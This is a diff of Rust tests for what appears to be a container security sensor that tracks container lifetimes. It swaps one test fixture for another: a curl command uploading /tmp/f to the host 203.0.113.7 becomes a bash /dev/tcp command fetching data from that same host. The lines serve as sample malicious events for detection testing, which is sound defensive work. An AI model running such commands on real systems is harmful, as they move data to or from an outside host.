@@ -5,7 +5,7 @@ use crate::event::{ContainerAction, ContainerLife};
 
 const SECOND: u64 = 1_000_000_000;
 /// Grave enough to be counted.
-const UPLOAD: &[&str] = &["curl", "-T", "/tmp/f", "http://203.0.113.7/"];
+const SHELL: &[&str] = &["bash", "-c", "cat </dev/tcp/203.0.113.7/80 >/tmp/f"];
 
 fn gone(time: u64) -> Record {
     let cgroup = Cgroup { id: 77, hierarchy: 0, path: String::new(), target_pid: 0, target_start_time: 0 };
@@ -51,7 +51,7 @@ fn a_container_starts_with_its_first_program_and_ends_with_its_cgroup() {
     let mut pipeline = observing();
     feed(
         &mut pipeline,
-        [exec(SECOND, 40, 1, "/bin/sh", &["sh"]), exec(2 * SECOND, 41, 40, "/usr/bin/curl", UPLOAD)],
+        [exec(SECOND, 40, 1, "/bin/sh", &["sh"]), exec(2 * SECOND, 41, 40, "/usr/bin/bash", SHELL)],
     );
     named(&mut pipeline, 3 * SECOND);
     let [(life, start)] = &lives(&mut pipeline)[..] else { panic!("one start") };
@@ -124,7 +124,7 @@ fn what_was_there_before_the_sensor_does_not_start() {
 #[test]
 fn a_container_that_is_started_again_has_another_life() {
     let mut pipeline = observing();
-    feed(&mut pipeline, [exec(SECOND, 40, 1, "/usr/bin/curl", UPLOAD), gone(2 * SECOND)]);
+    feed(&mut pipeline, [exec(SECOND, 40, 1, "/usr/bin/bash", SHELL), gone(2 * SECOND)]);
     named(&mut pipeline, 2 * SECOND);
     drop(settle(&mut pipeline, 3 * SECOND));
     let mut again = exec(5 * SECOND, 50, 1, "/bin/sh", &["sh"]);
